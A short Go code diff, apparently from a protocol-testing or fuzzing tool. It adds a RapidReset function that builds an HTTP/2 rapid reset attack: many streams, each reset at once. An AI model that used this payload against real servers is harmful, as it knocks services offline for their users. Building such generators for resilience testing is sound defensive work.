@@ -385,6 +385,15 @@ func varietiesFrames2() []variety2 {
 	}
 }
 
+// RapidReset opens streams and resets each at once.
+func RapidReset(to Target, streams int) Attack {
+	g, c := &gen{to: to}, newConn()
+	for range streams {
+		_ = c.fr.WriteRSTStream(g.get(c), http2.ErrCodeCancel)
+	}
+	return Attack{Part: "http/2 rapid reset", Sends: [][]byte{c.out.Bytes()}}
+}
+
 // http2 is an HTTP/2 connection without TLS with one or two unusual parts.
 func (g *gen) http2() Attack {
 	c, part := newConn(), "http/2 "
